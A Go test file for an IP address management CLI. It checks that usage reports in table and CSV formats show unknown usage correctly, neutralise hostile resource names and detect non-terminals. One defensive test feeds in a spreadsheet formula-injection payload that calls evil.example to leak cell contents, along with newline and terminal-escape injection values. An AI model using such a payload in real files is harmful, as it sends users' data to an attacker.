package main

import (
	"bytes"
	"encoding/csv"
	"net/netip"
	"os"
	"strings"
	"testing"

	"github.com/ipamkit/ipamkit/ipam"
	"github.com/ipamkit/ipamkit/usage"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// outputReport returns a report of one IPv4 subnet at 25% and one IPv6
// subnet whose usage is not known, neither a finding.
func outputReport(t *testing.T) usage.Report {
	t.Helper()
	v4 := netip.MustParsePrefix("10.0.0.0/24")
	v6 := netip.MustParsePrefix("fd00::/64")
	rep, err := usage.NewReport([]usage.Resource{
		{ID: "subnet-4", Type: usage.TypeSubnet, Source: usage.SourceEC2, AccountID: "111111111111", Region: "us-east-1",
			CIDR: v4, Known: true, Total: ipam.Size(v4), Used: ipam.NewCount(64), Available: ipam.Size(v4).Sub(ipam.NewCount(64))},
		{ID: "subnet-6", Type: usage.TypeSubnet, Source: usage.SourceEC2, AccountID: "111111111111", Region: "us-east-1",
			CIDR: v6, Total: ipam.Size(v6)},
	}, nil, usage.ScanInfo{}, usage.Policy{})
	require.NoError(t, err)
	return rep
}

// TestUsageRowsUnknown checks that a resource of unknown usage is never
// shown as ok, in any format.
func TestUsageRowsUnknown(t *testing.T) {
	t.Parallel()
	tests := []struct {
		format string
		want   []string // the lines of subnet-4 and subnet-6, as prefixes
	}{
		{"table", []string{"ok        25.0%", "unknown   ?"}},
		{"csv", []string{"ok,25.00,subnet-4,", "unknown,,subnet-6,"}},
	}
	for _, tt := range tests {
		t.Run(tt.format, func(t *testing.T) {
			t.Parallel()
			var b strings.Builder
			require.NoError(t, writeUsageReport(&b, outputReport(t), tt.format))
			lines := strings.Split(strings.TrimSuffix(b.String(), "\n"), "\n")
			require.Len(t, lines, 3, "a header and two rows: %q", b.String())
			for i, want := range tt.want {
				assert.True(t, strings.HasPrefix(lines[i+1], want), "row %d: got %q, want it to start with %q", i+1, lines[i+1], want)
			}
		})
	}
}

// TestUsageOutputHostileNames: names from AWS cannot become spreadsheet
// formulas in the CSV, nor split a row of the table. The CLI prints through
// usage.Report.WriteCSV and WriteTable, whose tests try every formula
// prefix and control character; this checks the CLI goes through them.
func TestUsageOutputHostileNames(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name     string
		csvCell  string // the name's cell, as a spreadsheet reads it
		tableCol string // the RESOURCE column of the table
	}{
		{`=HYPERLINK("http://evil.example/?"&A1,"x")`, `'=HYPERLINK("http://evil.example/?"&A1,"x")`, `subnet-4 (=HYPERLINK("http://evil.example/?"&A1,"x"))`},
		{"web\nFAKE,ROW", "web\nFAKE,ROW", `subnet-4 (web\nFAKE,ROW)`},
		{"red\x1b[31m", "red\x1b[31m", `subnet-4 (red\x1b[31m)`},
	}
	for _, tt := range tests {
		t.Run(tt.csvCell, func(t *testing.T) {
			t.Parallel()
			rep := outputReport(t)
			for i := range rep.Resources {
				if rep.Resources[i].ID == "subnet-4" {
					rep.Resources[i].Name = tt.name
				}
			}

			var b strings.Builder
			require.NoError(t, writeUsageReport(&b, rep, "csv"))
			rows, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
			require.NoError(t, err)
			require.Len(t, rows, 3, "a header and two rows")
			assert.Equal(t, "subnet-4", rows[1][2])
			assert.Equal(t, tt.csvCell, rows[1][4])

			b.Reset()
			require.NoError(t, writeUsageReport(&b, rep, "table"))
			lines := strings.Split(strings.TrimSuffix(b.String(), "\n"), "\n")
			require.Len(t, lines, 3, "a header and two rows:\n%s", b.String())
			assert.Contains(t, lines[1], "  "+tt.tableCol+"  ")
			assert.NotContains(t, b.String(), "\x1b")
		})
	}
}

// TestIsTerminalNullDevice: the null device is a character device, but no
// terminal; apply run with </dev/null must refuse rather than prompt.
func TestIsTerminalNullDevice(t *testing.T) {
	f, err := os.Open(os.DevNull)
	require.NoError(t, err)
	defer f.Close()
	assert.False(t, isTerminal(f), "%s is not a terminal", os.DevNull)
	assert.False(t, isTerminal(new(bytes.Buffer)), "a buffer is not a terminal")
}
